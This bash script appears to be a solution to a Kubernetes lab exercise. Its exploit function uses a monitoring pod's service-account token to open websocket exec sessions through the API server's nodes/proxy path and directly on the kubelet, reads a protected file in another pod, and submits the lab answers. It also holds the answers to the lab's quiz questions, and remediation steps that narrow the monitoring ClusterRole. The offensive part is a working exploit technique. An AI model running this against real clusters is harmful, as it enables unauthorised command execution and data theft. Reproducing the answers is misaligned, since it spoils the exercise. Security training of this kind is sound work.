#!/usr/bin/env bash
# GET is not read-only: run a command with a right that says get, then give monitoring what it needs and no more.
set -euo pipefail

token=/var/run/secrets/kubernetes.io/serviceaccount/token
ask() { kubectl -n minilab-system exec monitor -- attacker http --plain --token-file "$token" "$@"; }

exploit() {
  local run='exec/default/web/web?output=1&error=1&command=cat&command=/recipe/recipe' said
  said=$(ask --websocket "https://198.51.100.1:6443/api/v1/nodes/node-1/proxy/$run")
  # Once repaired, it is refused: what was earned stays earned.
  case $said in "HTTP 101"*) ;; *) return 0 ;; esac
  said=$(ask --websocket "https://192.0.2.11:10250/$run")
  minilab lab answer recipe "$(tail -n 1 <<< "$said")"
}

explain() {
  minilab lab answer verb get
  minilab lab answer trace "nothing about an exec"
  minilab lab answer subresource nodes/pods
}

harden() { minilab harden kubelet-access.grants; }

by_hand() {
  kubectl get clusterrole minilab:monitoring -o yaml |
    sed 's#^  - nodes/proxy$#  - nodes/metrics\n  - nodes/stats\n  - nodes/pods\n  - nodes/log\n  - nodes/healthz\n  - nodes/configz#' |
    kubectl replace -f -
}

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
